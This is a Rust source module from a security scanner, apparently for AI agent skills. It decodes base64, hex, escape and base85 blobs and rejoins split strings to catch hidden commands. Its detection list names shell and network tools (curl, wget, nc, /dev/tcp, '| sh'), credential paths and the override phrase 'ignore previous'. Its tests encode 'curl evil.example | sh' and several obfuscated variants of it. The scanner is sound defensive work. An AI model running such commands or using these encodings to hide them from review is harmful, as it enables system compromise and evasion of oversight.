//! Evasions: encoded payloads (base64, hex, `\x` escapes, base85) are decoded and, when the
//! result reads like commands, code or URLs, reported and rescanned with every rule; lines
//! whose commands only appear after joining split strings, substituting variables assigned
//! from literals, or replacing look-alike characters are rescanned in their joined form.

use std::borrow::Cow;
use std::collections::HashMap;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use base64::Engine;
use regex::Regex;

use super::rules::known;
use super::{
    Doc, Limits, Origin, Role, SkillContext, make_finding, scan_patterns, scan_text, signatures,
    unicode,
};
use crate::model::{Confidence, Finding, Severity, sanitize_evidence};
use crate::registry::RuleId;

static BLOB: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?P<b64>[A-Za-z0-9+/_-]{20,}={0,2})|(?P<esc>(\\x[0-9a-fA-F]{2}){8,})|(?P<oct>(\\[0-3][0-7]{2}){8,})|(?P<uni>(\\u[0-9a-fA-F]{4}){8,})|(?P<codes>\[\s*(\d{2,3}\s*,\s*){7,}\d{2,3}\s*\])|(b85decode|a85decode)\(\s*b?["'](?P<b85>[^"'\n]{10,})["']|<~(?P<a85>[!-u\s]{10,}?)~>"#,
    )
    .expect("blob regex")
});

/// Words that make decoded text worth a finding: commands, code, URLs, instructions.
static SIGNALS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build([
            "http://",
            "https://",
            "curl ",
            "wget ",
            "bash",
            "/bin/",
            "sh -c",
            "| sh",
            "powershell",
            "invoke-",
            "iex",
            "eval(",
            "exec(",
            "import ",
            "require(",
            "subprocess",
            "os.system",
            "child_process",
            "rm -rf",
            "chmod",
            "/dev/tcp",
            "nc -",
            "base64",
            "ignore previous",
            "ignore all",
            ".ssh",
            "password",
            "token",
            "secret",
            "api_key",
            "crontab",
            "sudo ",
            "socket",
            "fetch(",
            "new function",
            "__import__",
            "system(",
            "/etc/",
            "~/.",
        ])
        .expect("signals")
});

/// A match of [`BLOB`] made only of base64 characters and padding is its `b64` group: every
/// other alternative holds a backslash, bracket, parenthesis or `<~`.
fn is_b64_run(s: &str) -> bool {
    s.bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'_' | b'-' | b'='))
}

/// Decodes `s` as standard or URL-safe base64, padded or not.
fn decode_b64(s: &str) -> Option<Vec<u8>> {
    let cfg = base64::engine::GeneralPurposeConfig::new()
        .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent);
    let trimmed = s.trim_end_matches('=');
    if s.contains(['-', '_']) {
        base64::engine::GeneralPurpose::new(&base64::alphabet::URL_SAFE, cfg)
            .decode(trimmed)
            .ok()
    } else {
        base64::engine::GeneralPurpose::new(&base64::alphabet::STANDARD, cfg)
            .decode(trimmed)
            .ok()
    }
}

fn decode_hex(s: &str) -> Option<Vec<u8>> {
    if s.len().is_multiple_of(2) {
        hex::decode(s).ok()
    } else {
        None
    }
}

fn decode_escapes(s: &str) -> Option<Vec<u8>> {
    s.split("\\x")
        .filter(|p| !p.is_empty())
        .map(|p| u8::from_str_radix(p.get(..2)?, 16).ok())
        .collect()
}

/// `\164\141…` (octal) or `\u0063…`: each escape one character.
fn decode_radix(s: &str, sep: &str, radix: u32) -> Option<Vec<u8>> {
    let mut out = String::new();
    for p in s.split(sep).filter(|p| !p.is_empty()) {
        out.push(char::from_u32(u32::from_str_radix(p, radix).ok()?)?);
    }
    Some(out.into_bytes())
}

/// `[99, 117, 114, 108, …]`: printable character codes (an array of port numbers or
/// sizes is not text).
fn decode_char_codes(s: &str) -> Option<Vec<u8>> {
    let codes: Vec<u8> = s
        .trim_matches(|c| c == '[' || c == ']')
        .split(',')
        .map(|n| n.trim().parse::<u8>().ok())
        .collect::<Option<_>>()?;
    let text = codes
        .iter()
        .all(|&c| c == b'\n' || c == b'\t' || (32..127).contains(&c))
        && codes.iter().filter(|c| c.is_ascii_alphabetic()).count() * 2 >= codes.len();
    text.then_some(codes)
}

/// Base85 as Python's `b85encode` (RFC 1924 alphabet) or Ascii85 (`a85`, `<~ ~>`).
fn decode_base85(s: &str, ascii85: bool) -> Option<Vec<u8>> {
    const RFC1924: &[u8] =
        b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
    let mut digits: Vec<u32> = Vec::with_capacity(s.len());
    let mut out = Vec::with_capacity(s.len());
    for b in s.bytes().filter(|b| !b.is_ascii_whitespace()) {
        if ascii85 && b == b'z' && digits.is_empty() {
            out.extend_from_slice(&[0, 0, 0, 0]);
            continue;
        }
        let d = if ascii85 {
            (b'!'..=b'u').contains(&b).then(|| u32::from(b - b'!'))?
        } else {
            RFC1924.iter().position(|c| *c == b)? as u32
        };
        digits.push(d);
        if digits.len() == 5 {
            let v = digits
                .iter()
                .try_fold(0u32, |acc, d| acc.checked_mul(85)?.checked_add(*d))?;
            out.extend_from_slice(&v.to_be_bytes());
            digits.clear();
        }
    }
    if !digits.is_empty() {
        let pad = 5 - digits.len();
        digits.resize(5, 84);
        let v = digits
            .iter()
            .try_fold(0u32, |acc, d| acc.checked_mul(85)?.checked_add(*d))?;
        out.extend_from_slice(&v.to_be_bytes()[..4 - pad]);
    }
    Some(out)
}

/// Decoded bytes as text when they read like text: valid UTF-8, mostly printable.
fn readable(bytes: &[u8]) -> Option<String> {
    let s = std::str::from_utf8(bytes).ok()?;
    let total = s.chars().count();
    if total < 8 {
        return None;
    }
    let printable = s
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    (printable * 100 >= total * 95).then(|| s.to_owned())
}

/// Decodes blobs in `doc`, reports the ones that hide commands or code, and rescans them.
pub(crate) fn scan(
    doc: &Doc,
    ctx: &SkillContext,
    limits: &Limits,
    depth: u8,
    out: &mut Vec<Finding>,
) {
    if depth >= limits.max_decode_depth {
        return;
    }
    let mut budget = limits.max_decoded_bytes;
    let mut reported = 0;
    for found in BLOB.find_iter(doc.text) {
        // Most blobs are runs of base64 characters: only the other kinds need the capture
        // groups, which cost far more than the match.
        let caps = (!is_b64_run(found.as_str()))
            .then(|| BLOB.captures_at(doc.text, found.start()))
            .flatten();
        let b64 = caps.is_none().then_some(found);
        let group = |name: &str| caps.as_ref().and_then(|c| c.name(name));
        let (m, kind, decoded) = if let Some(m) = b64 {
            let s = m.as_str();
            // Pure hex is decoded as hex; plain words and paths are not base64.
            let hexish = s.len() >= 32 && s.bytes().all(|b| b.is_ascii_hexdigit());
            let d = if hexish {
                decode_hex(s).map(|d| ("hex", d))
            } else if s
                .bytes()
                .any(|b| b.is_ascii_digit() || b == b'+' || b == b'=')
                && s.bytes().any(|b| b.is_ascii_uppercase())
                && s.bytes().any(|b| b.is_ascii_lowercase())
            {
                decode_b64(s).map(|d| ("base64", d))
            } else {
                None
            };
            let Some((kind, d)) = d else { continue };
            (m, kind, d)
        } else if let Some(m) = group("esc") {
            let Some(d) = decode_escapes(m.as_str()) else {
                continue;
            };
            (m, "\\x escapes", d)
        } else if let Some(m) = group("oct") {
            let Some(d) = decode_radix(m.as_str(), "\\", 8) else {
                continue;
            };
            (m, "octal escapes", d)
        } else if let Some(m) = group("uni") {
            let Some(d) = decode_radix(m.as_str(), "\\u", 16) else {
                continue;
            };
            (m, "\\u escapes", d)
        } else if let Some(m) = group("codes") {
            let Some(d) = decode_char_codes(m.as_str()) else {
                continue;
            };
            (m, "character codes", d)
        } else if let Some(m) = group("b85") {
            let Some(d) = decode_base85(m.as_str(), found.as_str().starts_with("a85")) else {
                continue;
            };
            (m, "base85", d)
        } else if let Some(m) = group("a85") {
            let Some(d) = decode_base85(m.as_str(), true) else {
                continue;
            };
            (m, "ascii85", d)
        } else {
            continue;
        };
        if decoded.len() > budget {
            break;
        }
        budget -= decoded.len();
        if signatures::find_eicar(&decoded).is_some() {
            let (line, _) = doc.position(m.start());
            out.push(signatures::eicar_finding(
                doc.path,
                line,
                &format!("encoded as {kind}"),
            ));
        }
        let Some(text) = readable(&decoded) else {
            continue;
        };
        let signals: Vec<&str> = {
            let mut v: Vec<&str> = SIGNALS
                .find_iter(&text)
                .map(|h| h.pattern().as_usize())
                .map(|i| SIGNAL_NAMES[i])
                .collect();
            v.dedup();
            v
        };
        if signals.is_empty() {
            continue;
        }
        let rule = known(RuleId::T1ObfEncodedPayload);
        let only_url = signals.iter().all(|s| s.starts_with("http"));
        let mut f = make_finding(
            rule,
            doc,
            ctx,
            m.start(),
            &format!("{kind} decodes to: {}", sanitize_evidence(&text, 160)),
            format!(
                "{} Decoded ({kind}, {} bytes): \"{}\".",
                rule.description,
                decoded.len(),
                sanitize_evidence(&text, 300)
            ),
        );
        if only_url {
            // A base64 URL can be a config value; a URL spelled as escapes or character
            // codes in a script is a destination hidden from whoever reads it.
            let hidden =
                doc.role == Role::Script && !matches!(kind, "base64" | "base85" | "ascii85");
            f.severity = f.severity.min(if hidden {
                Severity::High
            } else {
                Severity::Medium
            });
            f.confidence = f.confidence.min(Confidence::Medium);
        }
        out.push(f);
        let (line, column) = doc.position(m.start());
        let sub = Doc::new(
            doc.path,
            &text,
            doc.role,
            ctx,
            Some(Origin {
                line,
                column,
                note: format!("decoded from {kind}"),
            }),
        );
        scan_text(&sub, ctx, limits, depth + 1, out);
        reported += 1;
        if reported >= limits.max_findings_per_rule {
            break;
        }
    }
}

/// Names of [`SIGNALS`] patterns, in order.
const SIGNAL_NAMES: &[&str] = &[
    "http://",
    "https://",
    "curl",
    "wget",
    "bash",
    "/bin/",
    "sh -c",
    "| sh",
    "powershell",
    "invoke-",
    "iex",
    "eval(",
    "exec(",
    "import",
    "require(",
    "subprocess",
    "os.system",
    "child_process",
    "rm -rf",
    "chmod",
    "/dev/tcp",
    "nc -",
    "base64",
    "ignore previous",
    "ignore all",
    ".ssh",
    "password",
    "token",
    "secret",
    "api_key",
    "crontab",
    "sudo",
    "socket",
    "fetch(",
    "new function",
    "__import__",
    "system(",
    "/etc/",
    "~/.",
];

static ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:^|[;&\s])(?:export\s+|local\s+|set\s+|let\s+|const\s+|var\s+|\$)?([A-Za-z_]\w{0,31})\s*:?=\s*(?:"([^"\n]{1,80})"|'([^'\n]{1,80})'|([A-Za-z0-9_./:-]{1,40})(?:[;\s]|$))"#)
        .expect("assignment regex")
});

static VAR_REF: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\$\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)|(?-u:\b)([A-Za-z_]\w*)(?-u:\b)")
        .expect("var regex")
});

/// `"cu" + "rl"`, `"cu""rl"`, `'c''url'`, `"a" . "b"`, `c\u\r\l`: the line with the
/// pieces joined.
fn join_pieces(line: &str) -> Cow<'_, str> {
    static CONCAT: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"["']\s*(\+|\.|&|\|\|)\s*["']|""|''"#).expect("concat regex")
    });
    // Every piece separator has two quotes; only backslashes are joined without them.
    let quotes = line
        .bytes()
        .filter(|&b| b == b'"' || b == b'\'')
        .take(2)
        .count();
    if quotes < 2 && !line.contains('\\') {
        return Cow::Borrowed(line);
    }
    let joined = if quotes < 2 {
        Cow::Borrowed(line)
    } else {
        CONCAT.replace_all(line, "")
    };
    if !joined.contains('\\') {
        return joined;
    }
    // Backslashes between letters are no-ops to a shell (`c\u\r\l`). A lone `\n`, `\t`,
    // `\r` or `\x` is an escape sequence, kept unless the word has several backslashes.
    let chars: Vec<char> = joined.chars().collect();
    let between = |i: usize| {
        chars[i] == '\\'
            && i > 0
            && chars[i - 1].is_ascii_alphabetic()
            && chars.get(i + 1).is_some_and(|n| n.is_ascii_alphabetic())
    };
    let mut s = String::with_capacity(joined.len());
    let mut i = 0;
    while i < chars.len() {
        // The word around position i.
        let end = (i..chars.len())
            .find(|&k| !(chars[k].is_ascii_alphanumeric() || chars[k] == '\\'))
            .unwrap_or(chars.len());
        if end == i {
            s.push(chars[i]);
            i += 1;
            continue;
        }
        let several = (i..end).filter(|&k| between(k)).count() >= 2;
        for k in i..end {
            let escape = chars.get(k + 1).is_some_and(|n| "ntrx".contains(*n));
            if !(between(k) && (several || !escape)) {
                s.push(chars[k]);
            }
        }
        i = end;
    }
    Cow::Owned(s)
}

/// `s` with the references [`VAR_REF`] finds replaced by the values of `vars` (a bare name
/// only on a line that concatenates, and quoted). Every word is a match, so the captures
/// are not resolved: the matched text tells which alternative it is (`${x}`, `$x`, `x`).
fn substitute(s: &str, vars: &HashMap<String, String>, concat: bool) -> String {
    let mut out = String::with_capacity(s.len());
    let mut last = 0;
    for m in VAR_REF.find_iter(s) {
        let t = m.as_str();
        let value = if let Some(name) = t.strip_prefix("${") {
            vars.get(name.strip_suffix('}').unwrap_or(name)).cloned()
        } else if let Some(name) = t.strip_prefix('$') {
            vars.get(name).cloned()
        } else if concat {
            vars.get(t).map(|v| format!("\"{v}\""))
        } else {
            None
        };
        out.push_str(&s[last..m.start()]);
        out.push_str(value.as_deref().unwrap_or(t));
        last = m.end();
    }
    out.push_str(&s[last..]);
    out
}

/// Rescans lines whose meaning changes once split strings are joined, variables assigned
/// from literals are substituted, and look-alike letters are replaced by ASCII.
pub(crate) fn scan_normalised(
    doc: &Doc,
    ctx: &SkillContext,
    limits: &Limits,
    out: &mut Vec<Finding>,
) {
    let text = doc.text;
    let maybe_split = text.contains("\"\"")
        || text.contains("''")
        || text.contains("\" +")
        || text.contains("' +")
        || text.contains("\"+")
        || text.contains("'+")
        || text.contains("\" .")
        || text.contains('\\')
        || text.contains('$')
        || (doc.role.is_code() && text.contains(" + "));
    if !maybe_split && text.is_ascii() {
        return;
    }
    let n = doc.line_starts.len();
    let mut joined: Vec<Cow<str>> = Vec::with_capacity(n);
    let mut vars: HashMap<String, String> = HashMap::new();
    for idx in 0..n {
        let line = doc.line_text(idx);
        let j = if maybe_split && line.len() <= 2000 {
            join_pieces(line)
        } else {
            Cow::Borrowed(line)
        };
        if doc.role.is_code() && vars.len() < 256 && j.contains('=') {
            for c in ASSIGN.captures_iter(&j) {
                let v = c
                    .get(2)
                    .or(c.get(3))
                    .or(c.get(4))
                    .map_or("", |m| m.as_str());
                if !v.is_empty() {
                    vars.insert(c[1].to_owned(), v.to_owned());
                }
            }
        }
        joined.push(j);
    }
    let mut split_lines = 0;
    for (idx, j) in joined.iter().enumerate() {
        let line = doc.line_text(idx);
        let mut s: Cow<str> = Cow::Borrowed(j.as_ref());
        if !vars.is_empty() && (s.contains('$') || s.contains('+')) {
            let concat = s.contains('+');
            let replaced = substitute(&s, &vars, concat);
            s = Cow::Owned(join_pieces(&replaced).into_owned());
        }
        if unicode::has_homoglyphs(&s) {
            s = Cow::Owned(unicode::dehomoglyph(&s));
        }
        if s.as_ref() == line {
            continue;
        }
        let (line_no, _) = doc.position(doc.line_starts[idx]);
        let sub = Doc::new(
            doc.path,
            &s,
            doc.role,
            ctx,
            Some(Origin {
                line: line_no,
                column: 1,
                note: "after joining split strings, substituting variables or replacing look-alike characters".to_owned(),
            }),
        );
        let mut found = Vec::new();
        scan_patterns(&sub, ctx, limits, &mut found);
        let new: Vec<Finding> = found
            .into_iter()
            .filter(|f| {
                !out.iter()
                    .any(|o| o.rule_id == f.rule_id && o.file == f.file && o.line == f.line)
            })
            .collect();
        let Some(worst) = new.iter().map(|f| f.severity).max() else {
            continue;
        };
        let rule = known(RuleId::T1ObfSplitStrings);
        let titles: Vec<&str> = new
            .iter()
            .filter_map(|f| RuleId::from_code(&f.rule_id).map(|r| r.doc().title))
            .collect();
        let mut f = make_finding(
            rule,
            doc,
            ctx,
            doc.line_starts[idx],
            line,
            format!(
                "{} Joined, the line reads \"{}\", which matches: {}.",
                rule.description,
                sanitize_evidence(&s, 200),
                titles.join(", ")
            ),
        );
        f.severity = f.severity.max(worst).min(Severity::Critical);
        out.push(f);
        out.extend(new);
        split_lines += 1;
        if split_lines >= limits.max_findings_per_rule {
            break;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decoders() {
        assert_eq!(
            decode_b64("Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==").unwrap(),
            b"curl evil.example | sh"
        );
        assert_eq!(decode_escapes("\\x63\\x75\\x72\\x6c").unwrap(), b"curl");
        assert_eq!(
            decode_radix("\\143\\165\\162\\154", "\\", 8).unwrap(),
            b"curl"
        );
        assert_eq!(decode_radix("\\u0063\\u0075", "\\u", 16).unwrap(), b"cu");
        assert_eq!(decode_char_codes("[99, 117, 114, 108]").unwrap(), b"curl");
        assert_eq!(decode_char_codes("[80, 443, 8080, 22]"), None);
        assert_eq!(decode_char_codes("[10, 20, 30, 40]"), None);
        // Python: base64.b85encode(b"curl x | sh")
        assert_eq!(
            decode_base85("V|8+DAb22rAaiH", false).unwrap(),
            b"curl x | sh"
        );
        assert_eq!(decode_base85("@s)g.", true).unwrap(), b"curl");
        assert_eq!(SIGNAL_NAMES.len(), SIGNALS.patterns_len());
    }

    #[test]
    fn pieces_are_joined() {
        assert_eq!(join_pieces(r#"x = "cu" + "rl""#), r#"x = "curl""#);
        assert_eq!(join_pieces(r#"c""url -s x"#), "curl -s x");
        assert_eq!(join_pieces(r"c\u\r\l x | s\h"), "curl x | sh");
        assert_eq!(join_pieces(r"printf 'a\n'"), r"printf 'a\n'");
    }
}
